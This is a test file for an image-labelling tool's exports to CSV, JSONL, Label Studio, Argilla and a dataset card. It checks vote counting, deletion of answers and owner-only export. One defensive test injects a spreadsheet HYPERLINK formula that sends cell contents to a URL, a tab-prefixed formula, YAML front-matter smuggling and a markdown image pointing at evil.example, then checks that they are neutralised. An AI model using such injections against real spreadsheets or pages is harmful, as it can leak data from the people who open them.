import csv
import json
import random
import re
import zipfile
from dataclasses import replace
from xml.etree import ElementTree

import pandas as pd
import pytest
import yaml
from markdown_it import MarkdownIt

from bias_core.errors import NotAllowed, StorageError
from bias_core.labels.label_store import LabelStore
from bias_core.labels.rating import delete_my_answers, join
from bias_core.labels.results import COLUMNS, answers_frame, export_labels, labelled_items
from bias_core.labels.task_owner import OwnerKey, create_task, set_status
from bias_core.study.answers import majority, read_answers
from bias_core.study.label_tasks import own_task, pst_task
from tests.hostile_markdown import HOSTILE_WORDS, Page
from tests.labels.raters import CHOICES, GOLD, open_task, pictures, say_all

FORMULA = '=HYPERLINK("http://example.com?x="&A1,"<b>nurse</b>")'


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    folder = tmp_path_factory.mktemp("labels")
    store = LabelStore(f"sqlite:///{folder}/labels.sqlite", pictures=folder / "pictures", rng=random.Random(1))
    yield store
    store.close()


@pytest.fixture(scope="module")
def task(store, tmp_path_factory):
    """Three raters on three pictures and one with a known answer; the third rater sees others on the left."""
    made = open_task(store, tmp_path_factory.mktemp("originals"), 3, n_gold=1, gold_share=0.5)
    for i in range(3):
        rate_all(store, made, {**CHOICES, "left": "masculine" if i == 2 else "feminine"})
    return made


@pytest.fixture(scope="module")
def out(store, task, tmp_path_factory):
    return unpacked(store, task.key, tmp_path_factory.mktemp("export"))


def rate_all(store, made, choices):
    code = join(store, made.join_code).code
    say_all(store, code, choices, duration_ms=1500)
    return code


def unpacked(store, key, folder):
    with zipfile.ZipFile(export_labels(store, key, folder / "labels.zip")) as archive:
        archive.extractall(folder / "out")
    return folder / "out"


def test_the_csv_is_what_the_studies_read_and_every_table_says_the_same(store, task, out):
    read = read_answers(str(out / "labels.csv"))
    left = read[(read["position"] == "left") & read["image_id"].isin(["picture-0", "picture-1", "picture-2"])]
    assert majority(left).to_dict() == dict.fromkeys(["picture-0", "picture-1", "picture-2"], "feminine")
    assert len(left) == 9
    studio, of_a_person = read_answers(str(out / "label_studio" / "tasks.json")), ["image_id", "position", "rater"]
    ordinary = read[read["image_id"].isin(studio["image_id"])].sort_values(of_a_person)
    assert studio.sort_values(of_a_person)["answer"].tolist() == ordinary["answer"].tolist()
    assert not {"picture-3"} & {*studio["image_id"], *read["image_id"]}  # its answer is known
    frame = answers_frame(store, task.key)
    assert list(frame) == [*COLUMNS]
    assert len(frame) == 2 * len(set(zip(frame["image_id"], frame["rater"], strict=True)))
    lines = [json.loads(line) for line in (out / "labels.jsonl").read_text().splitlines()]
    assert lines == frame.to_dict("records")
    with (out / "labels.csv").open(newline="") as file:
        assert [row["answer"] for row in csv.DictReader(file)] == list(frame["answer"])
    known = frame[frame["known"] != ""]
    assert set(known["image_id"]) <= {"picture-3"}
    assert set(known.loc[known["position"] == "left", "known"]) <= {GOLD["left"]}


def test_the_imagefolder_loads_with_the_answers(out, tmp_path):
    datasets = pytest.importorskip("datasets")
    loaded = datasets.load_dataset(
        "imagefolder", data_dir=str(out / "train"), split="train", cache_dir=str(tmp_path / "cache")
    )
    assert loaded["image_id"][:] == ["picture-0", "picture-1", "picture-2"]
    assert loaded["left_label"][:] == ["feminine"] * 3
    assert loaded["left_share"][:] == pytest.approx([2 / 3] * 3)
    assert loaded["left_answers"][0] == ["feminine", "feminine", "masculine"]
    assert loaded["n_raters"][:] == [3, 3, 3]
    assert loaded["image"][0].size == (16, 16)
    assert len(list((out / "known").iterdir())) == 1  # what tests attention is apart


def test_most_votes_win_and_a_tie_is_nobodys(store, tmp_path):
    made = open_task(store, tmp_path / "originals", 1, raters_per_item=5)
    (one,) = labelled_items(store, made.key)
    assert (one.majority("left"), len(one.answers)) == ("", 0)
    for n, (left, winner, share) in enumerate(
        [("feminine", "feminine", 1.0), ("masculine", "", None), ("masculine", "masculine", 2 / 3)]
    ):
        rate_all(store, made, {**CHOICES, "left": left})
        (one,) = labelled_items(store, made.key)
        assert (one.majority("left"), len(one.answers)) == (winner, n + 1)
        assert share is None or one.share("left") == pytest.approx(share)


def test_label_studio_reads_config_and_answers(store, task, out):
    config = ElementTree.parse(out / "label_studio" / "config.xml")
    offered = {
        choices.get("name"): [choice.get("value") for choice in choices.iter("Choice")]
        for choices in config.iter("Choices")
    }
    assert offered == {place: list(task.task.answer_keys) for place in ("left", "right")}
    tasks = json.loads((out / "label_studio" / "tasks.json").read_text())
    assert len(tasks) == 4
    for one in tasks:
        assert (out / one["data"]["image"].partition("?d=")[2]).is_file()
        assert set(one["data"]) == {"image", "image_id", "question_left", "question_right"}
        for annotation in one["annotations"]:
            for result in annotation["result"]:
                assert result["value"]["choices"][0] in offered[result["from_name"]]
                assert (result["to_name"], result["type"]) == ("image", "choices")
    assert [len(one["annotations"]) for one in tasks[:3]] == [3, 3, 3]
    assert tasks[3]["annotations"][-1]["ground_truth"] is True
    assert tasks[0]["annotations"][0]["lead_time"] == 1.5


def test_argilla_reads_settings_and_records(store, task, out):
    settings = json.loads((out / "argilla" / "settings.json").read_text())
    assert [question["name"] for question in settings["questions"]] == ["left", "right"]
    records = json.loads((out / "argilla" / "records.json").read_text())
    suggested = {"value": "feminine", "score": pytest.approx(2 / 3), "agent": "most raters"}
    assert records[0]["suggestions"]["left"] == suggested
    assert records[0]["metadata"]["left_votes"] == "feminine 2, masculine 1"
    assert all((out / record["fields"]["image"]).is_file() for record in records)


def test_argillas_server_takes_the_settings_of_a_task_without_instructions(store, tmp_path):
    """Its schemas of datasets and questions (argilla_server/api/schemas/v1) allow no empty text, only null."""
    (picture,) = pictures(tmp_path / "originals", 1)
    made = create_task(
        store, own_task("Does this picture show dark skin?", ["yes", "no"]), [replace(picture, identities={})]
    )
    settings = json.loads((unpacked(store, made.key, tmp_path) / "argilla" / "settings.json").read_text())
    assert settings["guidelines"] is None
    (question,) = settings["questions"]
    assert re.fullmatch("[a-z0-9_-]{1,200}", question["name"])
    assert 1 <= len(question["title"]) <= 500
    assert len(question["settings"]["options"]) >= 2
    assert all(option["value"] and option["text"] for option in question["settings"]["options"])


def test_the_converter_of_label_studio_takes_the_export(out):
    """It needs the ``id`` of tasks, and sorts annotations by ``created_at``, which is 0 if it is missing."""
    tasks = json.loads((out / "label_studio" / "tasks.json").read_text())
    annotations = [one for task in tasks for one in task["annotations"]]
    assert len({task["id"] for task in tasks}) == len(tasks)
    assert len({one["id"] for one in annotations}) == len(annotations)
    for task in tasks:
        assert sorted(task["annotations"], key=lambda one: one.get("created_at", 0), reverse=True)
    documented = {"id", "result", "created_at", "updated_at", "lead_time", "was_cancelled", "ground_truth"}
    assert all(set(one) == documented for one in annotations)
    regions = {key for one in annotations for region in one["result"] for key in region}
    assert regions == {"id", "from_name", "to_name", "type", "value", "meta"}


def test_the_card_says_what_was_asked_and_of_how_many(task, out):
    card = (out / "README.md").read_text()
    head = yaml.safe_load(card.split("---")[1])
    assert head["pretty_name"] == task.task.title
    assert "9 answers of 3 raters to 3 pictures (3 have all 3 raters)" in card
    for text in ("perceive", "random name", "not exactly two people", "Taking part is voluntary"):
        assert text in card


def test_nothing_that_was_written_becomes_a_formula_or_markup(store, tmp_path):
    hostile = "\n\n".join(words for words in HOSTILE_WORDS if words.isprintable())
    texts = {"title": f"{FORMULA}\n---\nlicense: mit", "instructions": f"{FORMULA}\n{hostile}", "content_note": FORMULA}
    (picture,) = pictures(tmp_path / "originals", 1)
    picture = replace(picture, image_id=FORMULA, identities={"left": FORMULA, "right": "\t=1+1"})
    made = create_task(store, pst_task(paired=True, **texts), [picture])
    set_status(store, made.key, "open")
    rate_all(store, made, CHOICES)
    out = unpacked(store, made.key, tmp_path)
    with (out / "labels.csv").open(newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    card = (out / "README.md").read_text()
    head, _, body = card.removeprefix("---\n").partition("\n---\n")
    assert yaml.safe_load(head)["license"] == "other"
    assert "<b>" not in body
    guidelines = json.loads((out / "argilla" / "settings.json").read_text())["guidelines"]
    for text in (body, guidelines):
        page = Page(MarkdownIt("commonmark").enable("table").render(text))
        assert page.loaded == []
        assert "![x](http://evil.example/x.png)" in page.text
    ElementTree.parse(out / "label_studio" / "config.xml")


def test_what_a_rater_deleted_is_in_no_export(store, task, tmp_path):
    code = rate_all(store, open_task(store, tmp_path / "others", 1), CHOICES)
    kept = answers_frame(store, task.key)
    assert delete_my_answers(store, code) == 1
    pd.testing.assert_frame_equal(answers_frame(store, task.key), kept)
    gone = join(store, task.join_code).code
    delete_my_answers(store, gone)
    card = (unpacked(store, task.key, tmp_path) / "README.md").read_text()
    assert "1 raters deleted their 0 answers" in card


def test_a_task_without_answers_can_be_exported(store, tmp_path):
    made = open_task(store, tmp_path / "originals", 2)
    out = unpacked(store, made.key, tmp_path)
    assert (out / "labels.csv").read_text().strip() == ",".join(COLUMNS)


def test_an_export_is_whole_or_absent_and_its_owners_alone(make_store, tmp_path):
    store = make_store("sqlite")
    task = open_task(store, tmp_path / "originals", 1)
    with pytest.raises(NotAllowed):
        export_labels(store, OwnerKey(task_id=task.task.id, secret="x"), tmp_path / "labels.zip")
    next(store.pictures.rglob("*.png")).unlink()
    with pytest.raises(StorageError, match="missing"):
        export_labels(store, task.key, tmp_path / "labels.zip")
    assert not list(tmp_path.glob("*labels.zip*"))
